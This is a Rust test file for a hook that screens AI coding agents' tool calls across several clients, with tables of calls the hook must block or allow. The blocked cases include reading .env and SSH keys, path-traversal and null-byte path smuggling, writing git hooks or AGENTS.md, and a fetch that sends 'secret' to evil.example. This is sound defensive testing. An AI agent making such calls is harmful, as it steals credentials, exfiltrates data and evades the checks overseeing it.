//! The tools of each client as an attacker calls them, and as everyday work does.

use serde_json::{Value, json};

use super::desk::Desk;

struct Table {
    desk: Desk,
    event: fn(&Desk, &str, &Value) -> Value,
}

impl Table {
    fn new(client: &'static str, event: fn(&Desk, &str, &Value) -> Value) -> Self {
        let mut desk = Desk::new();
        desk.client = client;
        Self { desk, event }
    }

    fn passes(&self, tool: &str, input: &Value) -> bool {
        let said = self.desk.says((self.event)(&self.desk, tool, input).to_string().as_bytes());
        assert_eq!(said.code == Some(0), said.out.is_empty(), "{said:?}");
        said.code == Some(0)
    }

    fn go_on(&self, calls: &[(&str, Value)]) {
        for (tool, input) in calls {
            assert!(self.passes(tool, input), "{tool} {input}");
        }
    }

    fn stop(&self, calls: &[(&str, Value)]) {
        for (tool, input) in calls {
            assert!(!self.passes(tool, input), "{tool} {input}");
        }
    }
}

fn codex(desk: &Desk, tool: &str, input: &Value) -> Value {
    json!({
        "turn_id": "t", "model": "m", "transcript_path": desk.log("0.169.0"), "cwd": desk.root(),
        "hook_event_name": "PreToolUse", "tool_name": tool, "tool_input": input,
    })
}

fn patch(lines: &str) -> Value {
    json!({ "command": format!("*** Begin Patch\n{lines}\n*** End Patch") })
}

#[test]
fn codex_patches_name_every_file() {
    let table = Table::new("codex", codex);
    table.stop(&[
        ("apply_patch", patch("*** Add File: ~/x\n+x")),
        ("apply_patch", patch("*** Add File: ../x\n+x")),
        ("apply_patch", patch("*** Add File: /etc/x\n+x")),
        ("apply_patch", patch("*** Add File: AGENTS.md\n+x")),
        ("apply_patch", patch("*** Add File: src/../.git/hooks/pre-commit\n+x")),
        ("apply_patch", patch("*** Update File: .env\n*** Move to: src/env\n@@\n-x\n+y")),
        ("apply_patch", patch("*** Update File: src/a.rs\r*** Delete File: .env\n@@")),
        ("apply_patch", patch("*** Environment ID: remote\n*** Add File: src/q\n+x")),
        ("apply_patch", json!({ "command": "" })),
        ("apply_patch", json!({ "command": "rm -rf x" })),
        ("view_image", json!({ "path": "~/.ssh/id_rsa" })),
        ("mcp__a__b/c", json!({})),
        ("shell", json!({ "command": ["ls"] })),
    ]);
    table.go_on(&[
        ("apply_patch", patch("*** Update File: README.md\n@@ -1 +1 @@\n ***\n-x\n+*** bold\n*** End of File")),
        ("apply_patch", patch(&format!("*** Add File: {}/src/n.rs\n+x", table.desk.root().display()))),
        ("update_plan", json!({ "plan": [] })),
    ]);
}

#[test]
fn codex_commands_count_from_a_folder_that_is_known() {
    let known = Table::new("codex", codex);
    known.go_on(&[("Bash", json!({ "command": "touch x && cargo test && git add src" }))]);
    let unknown: [fn(&Desk, &str, &Value) -> Value; 4] = [
        |desk, tool, input| with(codex(desk, tool, input), "transcript_path", json!(desk.log("0.164.1"))),
        |desk, tool, input| with(codex(desk, tool, input), "transcript_path", json!(desk.log("0.170.0-alpha.1"))),
        |desk, tool, input| with(codex(desk, tool, input), "transcript_path", Value::Null),
        |desk, tool, input| with(codex(desk, tool, input), "transcript_path", json!("/dev/zero")),
    ];
    for event in unknown {
        let table = Table::new("codex", event);
        let root = table.desk.root().display().to_string();
        let shell = |command: &str| ("Bash", json!({ "command": command }));
        table.stop(&["touch x", "cargo test", "git commit -m x", "cat README.md", "cd src && touch x"].map(shell));
        table.stop(&[shell(&format!("cd {root} && cd $X && touch x"))]);
        table.go_on(&[shell("echo hi"), shell(&format!("cat {root}/README.md"))]);
        table.go_on(&[shell(&format!("cd {root} && cargo test")), shell(&format!("cd {root}/src && touch x"))]);
    }
    let elsewhere: [fn(&Desk, &str, &Value) -> Value; 2] = [
        |desk, tool, input| with(codex(desk, tool, input), "cwd", json!(desk.home())),
        |desk, tool, input| with(codex(desk, tool, input), "cwd", json!("src")),
    ];
    for event in elsewhere {
        let shell = |command: &str| ("Bash", json!({ "command": command }));
        Table::new("codex", event).stop(&["touch x", "cargo test", "git commit -m x"].map(shell));
    }
}

fn with(mut event: Value, key: &str, value: Value) -> Value {
    event[key] = value;
    event
}

#[test]
fn gemini() {
    let table = Table::new(
        "gemini",
        |desk, tool, input| json!({ "cwd": desk.root(), "hook_event_name": "BeforeTool", "tool_name": tool, "tool_input": input }),
    );
    let (root, home) = (table.desk.root(), table.desk.home());
    table.stop(&[
        ("read_file", json!({ "file_path": "@/.env" })),
        ("read_file", json!({ "file_path": "./@.env/../.env" })),
        ("read_file", json!({ "file_path": ".e\0nv" })),
        ("read_file", json!({ "absolute_path": root.join(".env") })),
        ("read_file", json!({ "file_path": "README.md", "absolute_path": root.join(".env") })),
        ("read_file", json!({ "file_path": "README.md", "path": ".env" })),
        ("read_many_files", json!({ "paths": [".e*"] })),
        ("read_many_files", json!({ "include": ["README.md"], "paths": [".env"] })),
        ("run_shell_command", json!({ "command": "cat ../.env", "dir_path": "src" })),
        ("run_shell_command", json!({ "command": "cargo test", "dir_path": home })),
        ("run_shell_command", json!({ "command": "touch x", "dir_path": "~" })),
        ("run_shell_command", json!({ "command": "touch x", "dir_path": "" })),
        ("run_shell_command", json!({ "command": "touch x", "dir_path": ["a"] })),
        ("replace", json!({ "file_path": "ci.yml", "old_string": "x", "new_string": "y" })),
        ("grep_search", json!({ "pattern": "x", "include_pattern": ".env*" })),
        ("grep_search", json!({ "pattern": "x", "dir_path": home })),
        ("list_directory", json!({ "dir_path": home })),
        ("web_fetch", json!({ "prompt": "nothing" })),
        ("mcp_x_y", json!({})),
        ("Bash", json!({ "command": "ls" })),
    ]);
    table.go_on(&[
        ("run_shell_command", json!({ "command": "cargo test", "dir_path": "src", "is_background": false })),
        ("list_directory", json!({ "dir_path": ".", "file_filtering_options": {} })),
        ("glob", json!({ "pattern": "**/*.rs" })),
        (
            "grep_search",
            json!({ "pattern": "x", "dir_path": "src", "max_matches_per_file": 3, "include_pattern": "*.rs" }),
        ),
        ("read_many_files", json!({ "include": ["src/**/*.rs", "README.md"], "file_filtering_options": {} })),
        ("write_file", json!({ "file_path": "src/new.rs", "content": "x" })),
        ("replace", json!({ "file_path": root.join("src/new.rs"), "old_string": "", "new_string": "y" })),
        ("write_todos", json!({ "todos": [] })),
    ]);
}

#[test]
fn gemini_fetches_only_from_hosts_that_are_all_listed() {
    let mut table = Table::new(
        "gemini",
        |desk, tool, input| json!({ "cwd": desk.root(), "hook_event_name": "BeforeTool", "tool_name": tool, "tool_input": input }),
    );
    table.desk = table.desk.fleet("[tool.allow]\nhosts = [\"docs.example\"]\n");
    let prompt = |text: &str| ("web_fetch", json!({ "prompt": text }));
    table.go_on(&[prompt("Sum up https://docs.example/x please")]);
    table.stop(&[
        prompt("Sum up https://docs.example/x and https://evil.example/"),
        prompt("Sum up https://docs.example/x and evil.example/?q=secret"),
        prompt("Sum up https://docs.example,https://evil.example/"),
        ("web_fetch", json!({ "prompt": "https://docs.example/", "url": "https://evil.example/" })),
    ]);
}

#[test]
fn opencode() {
    let table = Table::new("opencode", |desk, tool, input| {
        json!({
            "cwd": desk.root(), "hook_event_name": "tool.execute.before", "input": { "tool": tool },
            "output": { "args": input },
        })
    });
    let root = table.desk.root();
    table.stop(&[
        ("bash", json!({ "command": "touch x", "workdir": "/" })),
        ("bash", json!({ "command": "cat ../.env", "workdir": "src" })),
        ("write", json!({ "filePath": "README.md", "path": ".env", "content": "x" })),
        (
            "multiedit",
            json!({
                "filePath": "src/a.rs", "edits": [{ "file_path": ".env", "oldString": "a", "newString": "b" }],
            }),
        ),
        ("patch", json!({ "patchText": "--- a/.env\n+++ b/.env\n" })),
        ("read", json!({ "filePath": "~/.ssh/id_rsa" })),
        ("Bash", json!({ "command": "ls" })),
    ]);
    table.go_on(&[
        ("bash", json!({ "command": "git add src && git commit -m 'x: rm -rf'", "workdir": root })),
        ("list", json!({ "path": root })),
        ("grep", json!({ "pattern": "x", "include": "*.rs" })),
        ("todowrite", json!({ "todos": [] })),
        (
            "multiedit",
            json!({
                "filePath": "src/a.rs", "edits": [{ "filePath": "src/a.rs", "oldString": "a", "newString": "b" }],
            }),
        ),
    ]);
}

#[test]
fn copilot() {
    let table =
        Table::new("copilot", |desk, tool, input| json!({ "cwd": desk.root(), "toolName": tool, "toolArgs": input }));
    let root = table.desk.root();
    for (tool, input) in [
        ("bash", json!("{\"command\":\"ls\",\"command\":\"cat .env\"}")),
        ("bash", json!([{ "command": "ls" }])),
        ("create", json!({ "path": "~/.bashrc", "file_text": "x" })),
        ("str_replace_editor", json!({ "command": "create", "path": root.join(".env"), "file_text": "x" })),
        ("apply_patch", json!("*** Begin Patch\n*** Add File: .env\n+x\n*** End Patch")),
    ] {
        let said = table.desk.says((table.event)(&table.desk, tool, &input).to_string().as_bytes());
        assert_eq!(said.code, Some(2), "{tool} {input}");
    }
    table.go_on(&[
        ("view", json!({ "path": root.join("src/a.rs"), "view_range": [1, 3] })),
        ("bash", json!({ "command": "npm test", "mode": "async", "shellId": "s" })),
        ("report_intent", json!({ "intent": "x" })),
        ("apply_patch", json!("*** Begin Patch\n*** Add File: src/n.rs\n+x\n*** End Patch")),
        ("grep", json!({ "pattern": "x", "path": "src", "output_mode": "content" })),
    ]);
}

#[test]
fn cursor() {
    let table = Table::new("cursor", |desk, tool, input| {
        json!({
            "hook_event_name": "preToolUse", "workspace_roots": [desk.home(), desk.root()], "cwd": desk.root(),
            "tool_name": tool, "tool_input": input,
        })
    });
    let home = table.desk.home();
    table.stop(&[
        ("Shell", json!({ "command": "cat .env" })),
        ("Shell", json!({ "command": "touch x", "working_directory": home })),
        ("Shell", json!({ "command": "touch x", "working_directory": home, "cwd": "." })),
        ("Write", json!({ "file_path": "README.md", "target_file": ".env" })),
        ("Delete", json!({ "file_path": "README.md" })),
        ("MCP:notes", json!({})),
    ]);
    table.go_on(&[
        ("Shell", json!({ "command": "npm test", "working_directory": "" })),
        ("Read", json!({ "path": "src/a.rs" })),
        ("Grep", json!({ "pattern": "x", "path": "src" })),
    ]);
}
